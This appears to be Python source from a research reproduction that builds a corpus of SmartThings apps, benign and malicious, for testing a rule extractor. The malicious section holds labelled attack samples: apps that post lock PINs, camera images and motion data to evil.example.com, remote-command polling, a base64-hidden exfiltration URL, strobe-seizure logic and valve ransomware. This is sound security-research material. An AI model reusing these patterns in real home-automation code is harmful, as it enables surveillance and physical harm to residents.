    ("AwayAndSecure", "not present", "lock1", "doorLock", "lock", "Away"),
    ("KidsHomeOutlet", "present", "outlet1", "outlet", "on", None),
    ("NannyCamOff", "present", "cam1", "camera", "off", None),
]


def _presence_app(
    name: str,
    event: str,
    input_name: str,
    dev_type: str,
    command: str,
    set_mode: str | None,
) -> CorpusApp:
    mode_input = '\n    input "awayMode", "mode", title: "Mode to set"' if set_mode else ""
    mode_action = "\n    setLocationMode(awayMode)" if set_mode else ""
    capability_map = {
        "light": "capability.switch",
        "thermostat": "capability.thermostat",
        "doorLock": "capability.lock",
        "outlet": "capability.switch",
        "camera": "capability.switch",
    }
    input_cap = capability_map.get(dev_type, "capability.switch")
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Presence automation: {event} -> {command}")

preferences {{
    input "presence1", "capability.presenceSensor", title: "Who?"
    input "{input_name}", "{input_cap}"{mode_input}
}}

def installed() {{ subscribe(presence1, "presence", presenceHandler) }}
def updated() {{ unsubscribe(); subscribe(presence1, "presence", presenceHandler) }}

def presenceHandler(evt) {{
    if (evt.value == "{event}") {{
        {input_name}.{command}(){mode_action}
    }}
}}
'''
    values: dict[str, object] = {}
    if set_mode:
        values["awayMode"] = set_mode
    category = "mode" if set_mode else (
        "switch" if input_cap == "capability.switch" else "other"
    )
    return CorpusApp(
        name=name,
        category=category,
        description=f"{name}: presence {event} -> {input_name}.{command}.",
        type_hints={"presence1": "presenceSensor", input_name: dev_type},
        values=values,
        source=source,
    )


# ----------------------------------------------------------------------
# Family 5: scheduled automations

_SCHEDULE_VARIANTS = [
    ("MorningCoffee", "schedule", "coffee1", "coffeeMaker", "on", 1800),
    ("LawnWatering", "runEvery3Hours", "sprinkler1", "sprinkler", "open", 600),
    ("NightlyLockup", "schedule", "lock1", "doorLock", "lock", 0),
    ("SunriseShades", "schedule", "shades1", "windowShade", "open", 0),
    ("FishTankLight", "schedule", "tank1", "light", "on", 28800),
    ("AirCirculation", "runEvery1Hour", "fan1", "fan", "on", 900),
    ("WaterHeaterWindow", "schedule", "boiler1", "heater", "on", 7200),
    ("RobotCleaningRun", "schedule", "robot1", "vacuumRobot", "on", 3600),
]


def _schedule_app(
    name: str,
    mechanism: str,
    input_name: str,
    dev_type: str,
    command: str,
    duration: int,
) -> CorpusApp:
    capability_map = {
        "doorLock": "capability.lock",
        "windowShade": "capability.windowShade",
        "sprinkler": "capability.valve",
    }
    input_cap = capability_map.get(dev_type, "capability.switch")
    undo = {"on": "off", "open": "close", "lock": "unlock"}.get(command)
    if mechanism == "schedule":
        time_input = '\n    input "startTime", "time", title: "At what time?"'
        install = "schedule(startTime, scheduledAction)"
    else:
        time_input = ""
        install = f"{mechanism}(scheduledAction)"
    stop_logic = ""
    stop_method = ""
    if duration and undo:
        stop_logic = f"\n    runIn({duration}, stopAction)"
        stop_method = f"""

def stopAction() {{
    {input_name}.{undo}()
}}"""
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Scheduled automation for {input_name}")

preferences {{
    input "{input_name}", "{input_cap}"{time_input}
}}

def installed() {{ {install} }}
def updated() {{ unschedule(); {install} }}

def scheduledAction() {{
    {input_name}.{command}(){stop_logic}
}}{stop_method}
'''
    values: dict[str, object] = {}
    if mechanism == "schedule":
        values["startTime"] = 21600
    return CorpusApp(
        name=name,
        category="switch" if input_cap == "capability.switch" else "other",
        description=f"{name}: scheduled {input_name}.{command}.",
        type_hints={input_name: dev_type},
        values=values,
        source=source,
    )


# ----------------------------------------------------------------------
# Family 6: energy caps

_ENERGY_VARIANTS = [
    ("DryerWatchdog", 3000, "dryer1", "washer"),
    ("SpaceHeaterCap", 1400, "heater1", "heater"),
    ("WorkshopBreaker", 3600, "tools1", "outlet"),
    ("EVChargerLimit", 7000, "charger1", "outlet"),
    ("OvenSafetyCut", 4000, "oven1", "oven"),
    ("AquariumHeaterCap", 500, "tankheater1", "heater"),
]


def _energy_app(name: str, threshold: int, input_name: str, dev_type: str) -> CorpusApp:
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Cut power when usage exceeds {threshold} W")

preferences {{
    input "meter1", "capability.powerMeter"
    input "maxWatts", "number", title: "Cut above (W)"
    input "{input_name}", "capability.switch"
}}

def installed() {{ subscribe(meter1, "power", powerHandler) }}
def updated() {{ unsubscribe(); subscribe(meter1, "power", powerHandler) }}

def powerHandler(evt) {{
    def w = evt.value.toInteger()
    if (w > maxWatts) {{
        {input_name}.off()
    }}
}}
'''
    return CorpusApp(
        name=name,
        category="switch",
        description=f"{name}: power > {threshold} -> {input_name}.off.",
        type_hints={"meter1": "powerMeter", input_name: dev_type},
        values={"maxWatts": threshold},
        source=source,
    )


# ----------------------------------------------------------------------
# Family 7: safety responders

_SAFETY_VARIANTS = [
    ("CODetectorVent", "carbonMonoxide", "detected", "fan1", "fan", "on",
     "capability.carbonMonoxideDetector", "smokeDetector"),
    ("SmokeLightsOn", "smoke", "detected", "lights1", "light", "on",
     "capability.smokeDetector", "smokeDetector"),
    ("SmokeHvacCut", "smoke", "detected", "hvac1", "airConditioner", "off",
     "capability.smokeDetector", "smokeDetector"),
    ("LeakDishwasherOff", "water", "wet", "washer1", "washer", "off",
     "capability.waterSensor", "waterLeakSensor"),
    ("LeakSirenAlert", "water", "wet", "siren1", "siren", "siren",
     "capability.waterSensor", "waterLeakSensor"),
    ("SoundNightAlarm", "sound", "detected", "siren1", "siren", "both",
     "capability.soundSensor", "soundSensor"),
    ("ShockWindowAlarm", "shock", "detected", "siren1", "siren", "strobe",
     "capability.shockSensor", "soundSensor"),
]


def _safety_app(
    name: str,
    attribute: str,
    value: str,
    input_name: str,
    dev_type: str,
    command: str,
    sensor_cap: str,
    sensor_type: str,
) -> CorpusApp:
    target_cap = "capability.alarm" if dev_type == "siren" else "capability.switch"
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Safety automation on {attribute}")

preferences {{
    input "sensor1", "{sensor_cap}"
    input "{input_name}", "{target_cap}"
}}

def installed() {{ subscribe(sensor1, "{attribute}", safetyHandler) }}
def updated() {{ unsubscribe(); subscribe(sensor1, "{attribute}", safetyHandler) }}

def safetyHandler(evt) {{
    if (evt.value == "{value}") {{
        {input_name}.{command}()
    }}
}}
'''
    return CorpusApp(
        name=name,
        category="switch" if target_cap == "capability.switch" else "other",
        description=f"{name}: {attribute}={value} -> {input_name}.{command}.",
        type_hints={"sensor1": sensor_type, input_name: dev_type},
        source=source,
    )


def generated_device_apps() -> list[CorpusApp]:
    """All template-generated device-controlling apps (59)."""
    apps: list[CorpusApp] = []
    apps.extend(_motion_light_app(*v) for v in _MOTION_LIGHT_VARIANTS)
    apps.extend(_contact_app(*v) for v in _CONTACT_VARIANTS)
    apps.extend(_climate_app(*v) for v in _CLIMATE_VARIANTS)
    apps.extend(_presence_app(*v) for v in _PRESENCE_VARIANTS)
    apps.extend(_schedule_app(*v) for v in _SCHEDULE_VARIANTS)
    apps.extend(_energy_app(*v) for v in _ENERGY_VARIANTS)
    apps.extend(_safety_app(*v) for v in _SAFETY_VARIANTS)
    return apps
