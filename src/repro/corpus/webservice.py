"""Web-Services SmartApps (36 of the repository's 182 apps).

These expose web endpoints through ``mappings`` for external
applications to query or control devices; they define no automation
rules themselves, so the paper removes them before rule extraction
(§VIII-B).  The loader tags them ``kind="webservice"`` so coverage
benchmarks can reproduce that filtering.
"""

from __future__ import annotations

from repro.corpus.model import CorpusApp

_ENDPOINT_VARIANTS = [
    # (name, capability, device type, attribute, commands)
    ("WebSwitches", "capability.switch", "switch", "switch", ("on", "off")),
    ("WebLights", "capability.switch", "light", "switch", ("on", "off")),
    ("WebOutlets", "capability.switch", "outlet", "switch", ("on", "off")),
    ("WebLocks", "capability.lock", "doorLock", "lock", ("lock", "unlock")),
    ("WebShades", "capability.windowShade", "windowShade", "windowShade",
     ("open", "close")),
    ("WebValves", "capability.valve", "waterValve", "valve", ("open", "close")),
    ("WebSirens", "capability.alarm", "siren", "alarm", ("siren", "off")),
    ("WebThermostats", "capability.thermostat", "thermostat",
     "thermostatMode", ("heat", "cool")),
    ("WebGarage", "capability.garageDoorControl", "garageDoor", "door",
     ("open", "close")),
    ("WebDimmers", "capability.switchLevel", "dimmer", "level",
     ("setLevel",)),
    ("WebSpeakers", "capability.musicPlayer", "speaker", "status",
     ("play", "stop")),
    ("WebCameras", "capability.imageCapture", "camera", "image", ("take",)),
]

_READER_VARIANTS = [
    ("WebTemperatures", "capability.temperatureMeasurement",
     "temperatureSensor", "temperature"),
    ("WebHumidity", "capability.relativeHumidityMeasurement",
     "humiditySensor", "humidity"),
    ("WebMotionStates", "capability.motionSensor", "motionSensor", "motion"),
    ("WebContacts", "capability.contactSensor", "contactSensor", "contact"),
    ("WebPresence", "capability.presenceSensor", "presenceSensor", "presence"),
    ("WebPower", "capability.powerMeter", "powerMeter", "power"),
    ("WebEnergy", "capability.energyMeter", "energyMeter", "energy"),
    ("WebIlluminance", "capability.illuminanceMeasurement",
     "illuminanceSensor", "illuminance"),
    ("WebBatteries", "capability.battery", "motionSensor", "battery"),
    ("WebSmoke", "capability.smokeDetector", "smokeDetector", "smoke"),
    ("WebLeaks", "capability.waterSensor", "waterLeakSensor", "water"),
    ("WebSound", "capability.soundPressureLevel", "soundSensor",
     "soundPressureLevel"),
]

_BRIDGE_VARIANTS = [
    ("IFTTTBridge", "capability.switch", "switch"),
    ("AlexaConnector", "capability.switch", "light"),
    ("GoogleHomeBridge", "capability.switch", "outlet"),
    ("DashboardFeed", "capability.sensor", "motionSensor"),
    ("GrafanaExporter", "capability.powerMeter", "powerMeter"),
    ("HomeBridgeShim", "capability.switch", "switch"),
    ("RESTEventRelay", "capability.contactSensor", "contactSensor"),
    ("SharptoolsPanel", "capability.switch", "light"),
    ("ActionTilesFeed", "capability.sensor", "temperatureSensor"),
    ("TaskerEndpoint", "capability.switch", "switch"),
    ("WebhookRepeater", "capability.sensor", "motionSensor"),
    ("StatusPageFeed", "capability.sensor", "contactSensor"),
]


def _endpoint_app(
    name: str,
    cap: str,
    dev_type: str,
    attribute: str,
    commands: tuple[str, ...],
) -> CorpusApp:
    command_paths = "\n".join(
        f'''    path("/devices/{command}") {{
        action: [POST: "{command}Handler"]
    }}'''
        for command in commands
    )
    handlers = "\n".join(
        f'''
def {command}Handler() {{
    devices.each {{ dev -> dev.{command}() }}
}}'''
        for command in commands
    )
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Web endpoints to control {dev_type} devices")

preferences {{
    input "devices", "{cap}", multiple: true
}}

mappings {{
    path("/devices") {{
        action: [GET: "listDevices"]
    }}
{command_paths}
}}

def installed() {{ }}
def updated() {{ }}

def listDevices() {{
    return devices.collect {{ dev -> [id: dev.id, state: dev.currentValue("{attribute}")] }}
}}
{handlers}
'''
    return CorpusApp(
        name=name,
        kind="webservice",
        category="other",
        description=f"{name}: web-service control of {dev_type}.",
        type_hints={"devices": dev_type},
        source=source,
    )


def _reader_app(name: str, cap: str, dev_type: str, attribute: str) -> CorpusApp:
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Web endpoint exposing {attribute} readings")

preferences {{
    input "sensors", "{cap}", multiple: true
}}

mappings {{
    path("/readings") {{
        action: [GET: "listReadings"]
    }}
}}

def installed() {{ }}
def updated() {{ }}

def listReadings() {{
    return sensors.collect {{ s -> [id: s.id, value: s.currentValue("{attribute}")] }}
}}
'''
    return CorpusApp(
        name=name,
        kind="webservice",
        category="other",
        description=f"{name}: web-service {attribute} readings.",
        type_hints={"sensors": dev_type},
        source=source,
    )


def _bridge_app(name: str, cap: str, dev_type: str) -> CorpusApp:
    source = f'''
definition(name: "{name}", namespace: "repro", author: "hg",
    description: "Relay endpoint for the {name} integration")

preferences {{
    input "devices", "{cap}", multiple: true
}}

mappings {{
    path("/update") {{
        action: [PUT: "updateHandler"]
    }}
    path("/poll") {{
        action: [GET: "pollHandler"]
    }}
}}

def installed() {{ createAccessToken() }}
def updated() {{ }}

def updateHandler() {{
    def body = params
    httpPostJson("https://bridge.example.com/{name}", body)
}}

def pollHandler() {{
    return [ok: true]
}}
'''
    return CorpusApp(
        name=name,
        kind="webservice",
        category="other",
        description=f"{name}: third-party bridge endpoint.",
        type_hints={"devices": dev_type},
        source=source,
    )


def webservice_only_apps() -> list[CorpusApp]:
    """All 36 Web-Services apps."""
    apps: list[CorpusApp] = []
    apps.extend(_endpoint_app(*v) for v in _ENDPOINT_VARIANTS)
    apps.extend(_reader_app(*v) for v in _READER_VARIANTS)
    apps.extend(_bridge_app(*v) for v in _BRIDGE_VARIANTS)
    return apps
