"""The 18 malicious SmartApps of paper Table III.

Collected (and here re-implemented) from the literature the paper cites
[22], [29], [46], [47].  Ten attack classes; the rule extractor handles
eight — the *endpoint attack* apps define their automation outside the
app (web endpoints) and the *app update* attack happens server-side
after review, so static extraction cannot capture those two (the ✗ rows
of Table III).
"""

from __future__ import annotations

from repro.corpus.model import CorpusApp

MALICIOUS_APPS: list[CorpusApp] = [
    CorpusApp(
        name="CreatingSeizuresUsingStrobedLight",
        kind="malicious",
        attack="Malicious Control",
        description="Embeds strobing logic beyond the app description.",
        type_hints={"lights": "light"},
        source='''
definition(name: "CreatingSeizuresUsingStrobedLight", namespace: "mal",
    author: "mallory", description: "A relaxing light dimmer")

preferences {
    input "lights", "capability.switch", multiple: true
}

def installed() { subscribe(lights, "switch.on", strobeHandler) }
def updated() { unsubscribe(); subscribe(lights, "switch.on", strobeHandler) }

def strobeHandler(evt) {
    lights.off()
    runIn(1, strobeOn)
}

def strobeOn() {
    lights.on()
    runIn(1, strobeOff)
}

def strobeOff() {
    lights.off()
    runIn(1, strobeOn)
}
''',
    ),
    CorpusApp(
        name="shiqiBatteryMonitor",
        kind="malicious",
        attack="Abusing Permission",
        description="Claims to monitor batteries but exploits lock permission.",
        type_hints={"lock1": "doorLock"},
        source='''
definition(name: "shiqiBatteryMonitor", namespace: "mal", author: "mallory",
    description: "Monitors the battery of your lock")

preferences {
    input "lock1", "capability.lock", title: "Lock to monitor"
}

def installed() { subscribe(lock1, "battery", batteryHandler) }
def updated() { unsubscribe(); subscribe(lock1, "battery", batteryHandler) }

def batteryHandler(evt) {
    def level = evt.value.toInteger()
    if (level < 95) {
        // Overprivilege abuse: the battery permission came with the
        // lock device, so the app can also unlock the door.
        lock1.unlock()
    }
}
''',
    ),
    CorpusApp(
        name="HelloHome",
        kind="malicious",
        attack="Adware",
        description="Injects advertisements into notification messages.",
        type_hints={"contact1": "contactSensor"},
        source='''
definition(name: "HelloHome", namespace: "mal", author: "mallory",
    description: "Welcomes you home with a friendly message")

preferences {
    input "contact1", "capability.contactSensor"
}

def installed() { subscribe(contact1, "contact.open", doorHandler) }
def updated() { unsubscribe(); subscribe(contact1, "contact.open", doorHandler) }

def doorHandler(evt) {
    sendPush("Welcome home! >>> Visit dealz.example.com for 90% off <<<")
}
''',
    ),
    CorpusApp(
        name="CODetector",
        kind="malicious",
        attack="Adware",
        description="CO alerts bundled with ad spam.",
        type_hints={"co1": "smokeDetector"},
        values={"phone1": "+15550100"},
        source='''
definition(name: "CODetector", namespace: "mal", author: "mallory",
    description: "Carbon monoxide alerts to your phone")

preferences {
    input "co1", "capability.carbonMonoxideDetector"
    input "phone1", "phone"
}

def installed() { subscribe(co1, "carbonMonoxide", coHandler) }
def updated() { unsubscribe(); subscribe(co1, "carbonMonoxide", coHandler) }

def coHandler(evt) {
    if (evt.value == "detected") {
        sendSms(phone1, "CO detected!! Also: buy CO filters at spam.example.com")
    }
}
''',
    ),
    CorpusApp(
        name="LockManager",
        kind="malicious",
        attack="Spyware",
        description="Leaks lock codes over HTTP.",
        type_hints={"lock1": "doorLock"},
        source='''
definition(name: "LockManager", namespace: "mal", author: "mallory",
    description: "Manage your lock codes easily")

preferences {
    input "lock1", "capability.lock"
}

def installed() { subscribe(lock1, "lock", lockHandler) }
def updated() { unsubscribe(); subscribe(lock1, "lock", lockHandler) }

def lockHandler(evt) {
    httpPost("http://evil.example.com/collect", "state=${evt.value}&home=${location.name}")
}
''',
    ),
    CorpusApp(
        name="shiqiLightController",
        kind="malicious",
        attack="Spyware",
        description="Light control that exfiltrates motion patterns.",
        type_hints={"motion1": "motionSensor", "light1": "light"},
        source='''
definition(name: "shiqiLightController", namespace: "mal", author: "mallory",
    description: "Turns your lights on when you move")

preferences {
    input "motion1", "capability.motionSensor"
    input "light1", "capability.switch"
}

def installed() { subscribe(motion1, "motion", motionHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion", motionHandler) }

def motionHandler(evt) {
    if (evt.value == "active") {
        light1.on()
    }
    httpGet("http://evil.example.com/track?motion=${evt.value}")
}
''',
    ),
    CorpusApp(
        name="DoorLockPinCodeSnooping",
        kind="malicious",
        attack="Spyware",
        description="Leaks entered PIN codes via a side channel.",
        type_hints={"lock1": "doorLock"},
        source='''
definition(name: "DoorLockPinCodeSnooping", namespace: "mal", author: "mallory",
    description: "Lock usage statistics")

preferences {
    input "lock1", "capability.lock"
}

def installed() { subscribe(lock1, "lock", codeHandler) }
def updated() { unsubscribe(); subscribe(lock1, "lock", codeHandler) }

def codeHandler(evt) {
    def usedCode = evt.data
    httpPostJson("http://evil.example.com/pins", [code: usedCode, home: location.id])
}
''',
    ),
    CorpusApp(
        name="WaterValve",
        kind="malicious",
        attack="Ransomware",
        description="Holds the water supply hostage until paid.",
        type_hints={"valve1": "waterValve"},
        source='''
definition(name: "WaterValve", namespace: "mal", author: "mallory",
    description: "Smart water valve manager")

preferences {
    input "valve1", "capability.valve"
}

def installed() { subscribe(valve1, "valve.open", valveHandler) }
def updated() { unsubscribe(); subscribe(valve1, "valve.open", valveHandler) }

def valveHandler(evt) {
    if (!state.paid) {
        valve1.close()
        sendPush("Your water is disabled. Pay 1 BTC to re-enable.")
    }
}
''',
    ),
    CorpusApp(
        name="SmokeDetector",
        kind="malicious",
        attack="Remote Control",
        description="Executes dynamic commands fetched over HTTP.",
        type_hints={"alarm1": "siren"},
        source='''
definition(name: "SmokeDetector", namespace: "mal", author: "mallory",
    description: "Smarter smoke alarm sounds")

preferences {
    input "alarm1", "capability.alarm"
}

def installed() { runEvery1Hour(pollServer) }
def updated() { unschedule(); runEvery1Hour(pollServer) }

def pollServer() {
    httpGet("http://evil.example.com/cmd") { resp ->
        def cmd = resp.data
        switch (cmd) {
            case "siren":
                alarm1.siren()
                break
            case "off":
                alarm1.off()
                break
            default:
                log.debug "idle"
        }
    }
}
''',
    ),
    CorpusApp(
        name="FireAlarm",
        kind="malicious",
        attack="Remote Control",
        description="Remote-controlled false fire alarms.",
        type_hints={"alarm1": "siren", "lights": "light"},
        source='''
definition(name: "FireAlarm", namespace: "mal", author: "mallory",
    description: "Flash the lights when smoke is detected")

preferences {
    input "alarm1", "capability.alarm"
    input "lights", "capability.switch", multiple: true
}

def installed() { runEvery5Minutes(checkServer) }
def updated() { unschedule(); runEvery5Minutes(checkServer) }

def checkServer() {
    httpGet("http://evil.example.com/firealarm") { resp ->
        if (resp.data == "fire") {
            alarm1.both()
            lights.on()
        }
    }
}
''',
    ),
    CorpusApp(
        name="MaliciousCameraIPC",
        kind="malicious",
        attack="IPC",
        description="Colludes with PresenceSensor app through state exchange.",
        type_hints={"cam1": "camera"},
        source='''
definition(name: "MaliciousCameraIPC", namespace: "mal", author: "mallory",
    description: "Camera assistant")

preferences {
    input "cam1", "capability.imageCapture"
}

def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }

def modeHandler(evt) {
    // Collusion channel: the PresenceSensor app encodes "nobody home"
    // by flipping the mode; this app then captures and leaks images.
    if (evt.value == "Away") {
        cam1.take()
        httpPost("http://evil.example.com/images", "home=${location.id}")
    }
}
''',
    ),
    CorpusApp(
        name="PresenceSensor",
        kind="malicious",
        attack="IPC",
        description="Colludes with MaliciousCameraIPC by signaling via mode.",
        type_hints={"presence1": "presenceSensor"},
        source='''
definition(name: "PresenceSensor", namespace: "mal", author: "mallory",
    description: "Keeps your mode in sync with your presence")

preferences {
    input "presence1", "capability.presenceSensor"
}

def installed() { subscribe(presence1, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(presence1, "presence", presenceHandler) }

def presenceHandler(evt) {
    if (evt.value == "not present") {
        setLocationMode("Away")
    }
}
''',
    ),
    CorpusApp(
        name="AutoCamera2",
        kind="malicious",
        attack="Shadow Payload",
        description="Sends images to an attacker URL hidden in config.",
        type_hints={"cam1": "camera", "motion1": "motionSensor"},
        source='''
definition(name: "AutoCamera2", namespace: "mal", author: "mallory",
    description: "Automatic photos when motion is detected")

preferences {
    input "cam1", "capability.imageCapture"
    input "motion1", "capability.motionSensor"
}

def installed() { subscribe(motion1, "motion.active", motionHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", motionHandler) }

def motionHandler(evt) {
    cam1.take()
    def target = "aHR0cDovL2V2aWwuZXhhbXBsZS5jb20="
    httpPost("http://cdn.example.com/upload?k=${target}", "img=latest")
}
''',
    ),
    CorpusApp(
        name="BackdoorPinCodeInjection",
        kind="malicious",
        attack="Endpoint Attack",
        expect_extractable=False,
        description="Web-service app whose malicious logic is driven by endpoints.",
        type_hints={"lock1": "doorLock"},
        source='''
definition(name: "BackdoorPinCodeInjection", namespace: "mal", author: "mallory",
    description: "Remote lock management API")

preferences {
    input "lock1", "capability.lock"
}

mappings {
    path("/inject") {
        action: [POST: "injectCode"]
    }
}

def installed() { createAccessToken() }
def updated() { }

def injectCode() {
    // The automation is defined by whoever calls the endpoint, outside
    // the app: static analysis sees the handler but not the rule.
    def pin = params.pin
    lock1.unlock()
}
''',
    ),
    CorpusApp(
        name="DisablingVacationMode",
        kind="malicious",
        attack="Endpoint Attack",
        expect_extractable=False,
        description="Endpoint-driven vacation-mode disabling.",
        type_hints={},
        source='''
definition(name: "DisablingVacationMode", namespace: "mal", author: "mallory",
    description: "Vacation schedule helper")

preferences {
    input "anything", "capability.sensor", required: false
}

mappings {
    path("/disable") {
        action: [GET: "disableVacation"]
    }
}

def installed() { createAccessToken() }
def updated() { }

def disableVacation() {
    setLocationMode("Home")
}
''',
    ),
    CorpusApp(
        name="BonVoyageRepackaging",
        kind="malicious",
        attack="App Update",
        expect_extractable=False,
        description="Benign at review time; malicious logic arrives via update.",
        type_hints={"presence1": "presenceSensor"},
        source='''
definition(name: "BonVoyageRepackaging", namespace: "mal", author: "mallory",
    description: "Sets Away mode when everyone leaves")

preferences {
    input "presence1", "capability.presenceSensor", multiple: true
}

def installed() { subscribe(presence1, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(presence1, "presence", presenceHandler) }

def presenceHandler(evt) {
    // At submission this is all the app does; the attack arrives later
    // through a cloud-side update without user awareness.
    if (evt.value == "not present") {
        setLocationMode("Away")
    }
}
''',
    ),
    CorpusApp(
        name="PowersOutAlert",
        kind="malicious",
        attack="App Update",
        expect_extractable=False,
        description="Update-attack variant of a power monitor.",
        type_hints={"meter1": "powerMeter"},
        source='''
definition(name: "PowersOutAlert", namespace: "mal", author: "mallory",
    description: "Alerts when power drops")

preferences {
    input "meter1", "capability.powerMeter"
}

def installed() { subscribe(meter1, "power", powerHandler) }
def updated() { unsubscribe(); subscribe(meter1, "power", powerHandler) }

def powerHandler(evt) {
    def w = evt.value.toInteger()
    if (w < 5) {
        sendPush("Power appears to be out!")
    }
}
''',
    ),
    CorpusApp(
        name="MidnightCamera",
        kind="malicious",
        attack="Malicious Control",
        description="Takes covert photos on a midnight schedule.",
        type_hints={"cam1": "camera"},
        source='''
definition(name: "MidnightCamera", namespace: "mal", author: "mallory",
    description: "Nightly security snapshot")

preferences {
    input "cam1", "capability.imageCapture"
    input "snapTime", "time", title: "Snapshot time"
}

def installed() { schedule(snapTime, takeSnap) }
def updated() { unschedule(); schedule(snapTime, takeSnap) }

def takeSnap() {
    cam1.take()
    httpPost("http://evil.example.com/night", "img=latest")
}
''',
    ),
]

# Attack classes where static rule extraction is expected to succeed
# (Table III "Can handle?" = yes).
HANDLED_ATTACKS = {
    "Malicious Control",
    "Abusing Permission",
    "Adware",
    "Spyware",
    "Ransomware",
    "Remote Control",
    "IPC",
    "Shadow Payload",
}

UNHANDLED_ATTACKS = {"Endpoint Attack", "App Update"}
