"""The SmartApp corpus (paper §VIII evaluation substrate).

The paper evaluates on the 182 apps of the SmartThings public
repository: 146 automation apps (of which 56 only send notifications)
plus 36 Web-Services apps, and 18 malicious apps collected from the
literature (Table III).  This package re-implements that population in
the Groovy-subset DSL:

* :mod:`repro.corpus.demo_apps` — the five apps implementing the
  paper's Rules 1-5 (ComfortTV, ColdDefender, CatchLiveShow,
  BurglarFinder, NightCare),
* :mod:`repro.corpus.benign` — the device-controlling apps (named after
  the real apps the paper cites: SwitchChangesMode, MakeItSo,
  CurlingIron, LetThereBeDark, EnergySaver, ...),
* :mod:`repro.corpus.notifications` — notification-only apps,
* :mod:`repro.corpus.webservice` — Web-Services apps (excluded from
  rule extraction),
* :mod:`repro.corpus.malicious` — the 18 malicious apps of Table III.
"""

from repro.corpus.model import CorpusApp
from repro.corpus.loader import (
    all_apps,
    app_by_name,
    automation_apps,
    demo_apps,
    device_controlling_apps,
    malicious_apps,
    notification_apps,
    webservice_apps,
)

__all__ = [
    "CorpusApp",
    "all_apps",
    "app_by_name",
    "automation_apps",
    "demo_apps",
    "device_controlling_apps",
    "malicious_apps",
    "notification_apps",
    "webservice_apps",
]
