"""Hand-written device-controlling SmartApps.

These re-implement the real SmartThings public-repository apps the
paper cites by name in §VIII-B (SwitchChangesMode, MakeItSo, CurlingIron,
NFCTagToggle, LockItWhenILeave, LetThereBeDark, UndeadEarlyWarning,
LightsOffWhenClosed, SmartNightlight, TurnItOnFor5Minutes, It'sTooHot,
EnergySaver, LightUpTheNight, FeedMyPet, SleepyTime,
CameraPowerScheduler) plus a representative set of further
device-controlling apps in the same styles.
"""

from __future__ import annotations

from repro.corpus.model import CorpusApp

HANDWRITTEN_APPS: list[CorpusApp] = [
    CorpusApp(
        name="SwitchChangesMode",
        category="mode",
        description="Changes the location mode according to a switch state.",
        type_hints={"master": "switch"},
        values={"onMode": "Home", "offMode": "Away"},
        source='''
definition(name: "SwitchChangesMode", namespace: "repro", author: "hg",
    description: "Set the location mode when a switch turns on or off")

preferences {
    input "master", "capability.switch", title: "Which switch?"
    input "onMode", "mode", title: "Mode when on"
    input "offMode", "mode", title: "Mode when off"
}

def installed() { initialize() }
def updated() { unsubscribe(); initialize() }

def initialize() {
    subscribe(master, "switch", switchHandler)
}

def switchHandler(evt) {
    if (evt.value == "on") {
        setLocationMode(onMode)
    } else if (evt.value == "off") {
        setLocationMode(offMode)
    }
}
''',
    ),
    CorpusApp(
        name="MakeItSo",
        category="mode",
        description="Binds switch/lock/thermostat states to a location mode.",
        type_hints={"switches": "switch", "locks": "doorLock",
                    "thermostat1": "thermostat"},
        values={"targetMode": "Home", "heatSetpoint": 70},
        source='''
definition(name: "MakeItSo", namespace: "repro", author: "hg",
    description: "Restore saved device states when the home enters a mode")

preferences {
    input "switches", "capability.switch", multiple: true
    input "locks", "capability.lock", multiple: true
    input "thermostat1", "capability.thermostat", required: false
    input "targetMode", "mode", title: "Restore in which mode?"
    input "heatSetpoint", "number", title: "Heating setpoint"
}

def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }

def modeHandler(evt) {
    if (evt.value == targetMode) {
        switches.each { s -> s.on() }
        locks.each { l -> l.unlock() }
        thermostat1.setHeatingSetpoint(heatSetpoint)
    }
}
''',
    ),
    CorpusApp(
        name="CurlingIron",
        category="switch",
        # The paper treats the outlets as plain switches ("a set of
        # outlets (switches)"), which is what lets it chain through
        # SwitchChangesMode in the §VIII-B example.
        description="Turns on outlets (switches) when motion is detected.",
        type_hints={"motion1": "motionSensor", "outlets": "switch"},
        values={"minutesLater": 30},
        source='''
definition(name: "CurlingIron", namespace: "repro", author: "hg",
    description: "Turn on outlets when there is motion, off after a while")

preferences {
    input "motion1", "capability.motionSensor", title: "Where?"
    input "outlets", "capability.switch", multiple: true, title: "Turn on which?"
    input "minutesLater", "number", title: "Off after how many minutes?"
}

def installed() { subscribe(motion1, "motion", motionHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion", motionHandler) }

def motionHandler(evt) {
    if (evt.value == "active") {
        outlets.on()
        def delay = minutesLater * 60
        runIn(delay, turnOffOutlets)
    }
}

def turnOffOutlets() {
    outlets.off()
}
''',
    ),
    CorpusApp(
        name="NFCTagToggle",
        category="other",
        description="Toggles switches and locks from a tag touch event.",
        type_hints={"tag": "button", "switch1": "switch", "lock1": "doorLock"},
        source='''
definition(name: "NFCTagToggle", namespace: "repro", author: "hg",
    description: "Toggle appliances and the door lock by tapping an NFC tag")

preferences {
    input "tag", "capability.touchSensor", title: "NFC tag"
    input "switch1", "capability.switch", title: "Appliance switch"
    input "lock1", "capability.lock", title: "Door lock"
}

def installed() { subscribe(tag, "touch", touchHandler) }
def updated() { unsubscribe(); subscribe(tag, "touch", touchHandler) }

def touchHandler(evt) {
    if (switch1.currentSwitch == "on") {
        switch1.off()
    } else {
        switch1.on()
    }
    if (lock1.currentLock == "locked") {
        lock1.unlock()
    } else {
        lock1.lock()
    }
}
''',
    ),
    CorpusApp(
        name="LockItWhenILeave",
        category="other",
        description="Locks doors when the presence sensor leaves.",
        type_hints={"presence1": "presenceSensor", "lock1": "doorLock"},
        source='''
definition(name: "LockItWhenILeave", namespace: "repro", author: "hg",
    description: "Lock the doors automatically when you leave home")

preferences {
    input "presence1", "capability.presenceSensor", title: "Whose presence?"
    input "lock1", "capability.lock", title: "Which lock?"
}

